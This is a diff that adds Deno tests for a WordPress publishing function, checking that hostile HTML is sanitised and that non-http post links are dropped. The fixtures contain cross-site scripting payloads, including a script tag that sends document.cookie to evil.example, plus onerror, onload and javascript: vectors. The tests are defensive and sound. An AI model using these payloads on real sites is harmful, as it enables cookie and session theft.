@@ -315,3 +315,41 @@ Deno.test("wordpress-publish: the post is live but the article cannot be updated
     );
   });
 });
+
+Deno.test("wordpress-publish: hostile HTML is sanitised before it is sent; title and excerpt arrive as text", async () => {
+  const content = '<p>Hello</p><script>document.location="https://evil.example/?"+document.cookie</script>' +
+    '<img src="x" onerror="alert(1)"><a href="javascript:alert(1)">click</a><a href="https://ok.example/">ok</a>' +
+    '<iframe src="https://evil.example"></iframe><svg onload="alert(1)"></svg>';
+  await withHarness({
+    article: { content, title: "Tips <script>alert(1)</script> & more", excerpt: '<img src=x onerror="alert(1)">' },
+  }, async ({ call, wp }) => {
+    const response = await call({ articleId: ARTICLE, siteId: SITE, status: "publish" });
+    assert.equal(response.status, 200, await response.clone().text());
+    await response.body?.cancel();
+    const [post] = [...wp.posts.values()];
+    assert.equal(
+      post.content,
+      '<p>Hello</p><img src="x" /><a>click</a><a href="https://ok.example/" rel="noopener noreferrer">ok</a>',
+    );
+    assert.equal(post.title, "Tips &lt;script&gt;alert(1)&lt;/script&gt; &amp; more");
+    assert.equal(post.excerpt, "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;");
+  });
+});
+
+Deno.test("wordpress-publish: a post link that is not http(s) is neither stored nor returned", async () => {
+  for (const postLink of ["javascript:alert(document.cookie)", "data:text/html,<script>alert(1)</script>", ""]) {
+    await withHarness({ wp: { postLink } }, async ({ call, store }) => {
+      const response = await call({ articleId: ARTICLE, siteId: SITE, status: "publish" });
+      const body = await response.json();
+      assert.equal(response.status, 200, JSON.stringify(body));
+      assert.equal(body.link, "", postLink);
+      const [publication] = [...store.publications.values()];
+      assert.equal(publication.link, null, postLink);
+    });
+  }
+  await withHarness({}, async ({ call, store, wp }) => {
+    const body = await (await call({ articleId: ARTICLE, siteId: SITE, status: "publish" })).json();
+    assert.match(body.link, new RegExp(`^${wp.origin}/`), "an ordinary permalink is kept");
+    assert.equal([...store.publications.values()][0].link, body.link);
+  });
+});
